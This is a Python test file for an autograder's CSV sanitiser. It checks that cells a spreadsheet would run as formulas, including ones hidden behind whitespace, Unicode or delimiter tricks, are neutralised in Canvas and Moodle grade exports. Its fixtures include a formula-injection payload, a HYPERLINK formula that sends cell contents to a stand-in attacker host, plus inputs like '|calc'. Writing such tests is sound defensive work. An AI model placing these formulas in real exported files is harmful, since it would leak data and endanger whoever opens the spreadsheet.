"""Text in CSV files that a spreadsheet would run as a formula."""

from __future__ import annotations

import csv
import io
from datetime import datetime

import pytest

from autograder.classroom.spreadsheet_cells import safe_cell
from autograder.instructor import lms_formats

FORMULA = '=HYPERLINK("https://evil.example/?"&A1)'


@pytest.mark.parametrize(
    "text",
    [
        FORMULA,
        "+1",
        "-1+1",
        "@SUM(A1)",
        "\t=1",
        "\r=1",
        "\n=1",
        "  =1",
        "\uff1d1",
        "|calc",
        "%0A=1",
        "\u00a0=1",
        "\ufeff=1",
        "\u200b+1",
        "\x0b=1",
        "\x00@SUM(A1)",
        "\u3000\uff1d1",
    ],
)
def test_what_may_run_begins_with_an_apostrophe(text):
    assert safe_cell(text) == f"'{text}"


@pytest.mark.parametrize(
    ("text", "safe"),
    [
        ("Ada;=1+1", "Ada;'=1+1"),  # a spreadsheet that separates cells with semicolons
        ("Ada\t@SUM(A1)", "Ada\t'@SUM(A1)"),
        ('Ada"\n\u200b=1', "Ada\"\n'\u200b=1"),
        ("=1;=2", "'=1;'=2"),
        ("Ada; Grace", "Ada; Grace"),
        ("", ""),
        ("\u200b", "\u200b"),
    ],
)
def test_no_formula_begins_within_a_text(text, safe):
    assert safe_cell(text) == safe


@pytest.mark.parametrize("delimiter", [",", ";", "\t"])
@pytest.mark.parametrize(
    "text",
    ['a;"=1;b', 'a;""=1;b', '"=1', 'a\t"=1\tb', 'a;" =1;b', '";"=1;"', 'a"\n"=1', ';\u200b"+1;'],
)
def test_no_formula_begins_where_quotes_end(text, delimiter):
    """A spreadsheet that separates cells with something else begins cells within the quotes."""
    file = io.StringIO()
    csv.writer(file, lineterminator="\n").writerow(["ada", safe_cell(text), "x"])
    for row in csv.reader(file.getvalue().splitlines(), delimiter=delimiter):
        assert not [cell for cell in row if cell.strip(' "\u200b').startswith(("=", "+"))]


@pytest.mark.parametrize(
    "value",
    ["Ada", "", 'Ada "Countess" L', '"Ada"', "-", -1.5, 0, None, datetime(2026, 3, 1), "a=1", "é"],
)
def test_what_is_harmless_stays(value):
    assert safe_cell(value) == value


@pytest.mark.parametrize("system", ["canvas", "moodle"])
def test_grades_for_other_systems_hold_no_formulas(system, tmp_path):
    grade = {
        "student_id": "ada", "first_name": "@ada", "last_name": FORMULA, "email": "+a@b",
        "assignment": "=ps", "score": 1.0, "max_score": 2.0, "needs_manual_grade": "no",
    }  # fmt: skip
    lms_formats.write(lms_formats.convert([grade], system), tmp_path / "grades.csv")
    with (tmp_path / "grades.csv").open(newline="") as file:
        cells = [cell for row in csv.reader(file) for cell in row]
    assert "ada" in cells
    assert not [cell for cell in cells if cell.startswith(("=", "+", "@"))]
